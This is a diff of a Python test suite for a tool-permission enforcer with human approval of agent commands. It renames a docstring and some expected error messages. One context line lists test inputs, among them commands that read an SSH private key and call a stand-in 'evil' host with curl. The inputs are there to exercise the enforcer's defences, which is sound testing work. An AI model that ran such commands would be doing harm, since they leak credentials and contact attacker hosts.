@@ -266,7 +266,7 @@ TEXTS = st.sampled_from(["ls", "pwd", "cat ~/.ssh/id_rsa", "curl http://evil.exa
 def test_only_what_was_ruled_on_runs(
     command: str, in_place: str | None, handed_back: str | None, decides: bool
 ) -> None:
-    """INVARIANT: what runs is what was ruled on, whatever a person does to what they see."""
+    """INVARIANT: the input that runs is the one that was judged, whatever an approver changes."""
 
     async def person(_: str, shown: dict[str, Any], __: object) -> PermissionResultAllow:
         await asyncio.sleep(0)
@@ -406,7 +406,7 @@ def test_what_the_person_decides_is_not_let_through_if_it_cannot_be_recorded() -
 
 
 def test_a_person_who_decides_needs_no_grants(enforcer: Enforcer) -> None:
-    with pytest.raises(InputError, match="`person_decides` needs no `grant_for`"):
+    with pytest.raises(InputError, match="`approver_decides` needs no `grant_for`"):
         can_use_tool(enforcer, person=saying_yes(), person_decides=True, grant_for=grants)
 
 
@@ -481,7 +481,7 @@ def test_only_an_enforcer_or_a_gate_can_judge() -> None:
 def test_a_way_to_ask_that_is_misspelt_is_told(enforcer: Enforcer) -> None:
     wrong: Any = "interupt"
 
-    with pytest.raises(InputError, match="unknown way to ask `interupt`"):
+    with pytest.raises(InputError, match="unknown mode `interupt`"):
         claude_hooks(enforcer, approval=wrong)
 
 
